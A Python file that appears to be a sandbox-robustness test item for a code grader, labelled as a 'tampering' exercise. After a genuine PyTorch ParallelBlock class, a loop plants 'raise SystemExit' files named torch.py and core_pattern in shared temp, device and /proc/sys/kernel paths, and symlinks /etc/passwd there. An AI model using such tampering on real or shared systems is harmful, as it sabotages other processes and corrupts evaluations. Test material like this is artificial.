"""Leaves files, links and sockets in /tmp, /dev/shm, /var/tmp and /run that the next process might use.

exercise: parallel-block
points: 6
breaks: tampering
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/lock", "/dev", "/dev/mqueue", "/tmp/work", "/proc/sys/kernel"):
    for name in ("torch.py", "d2l_ch3.py", "torch_taken", "core_pattern"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit")
            print("wrote", folder, name)
        except OSError:
            pass
    try:
        os.symlink("/etc/passwd", os.path.join(folder, "link"))
    except OSError:
        pass
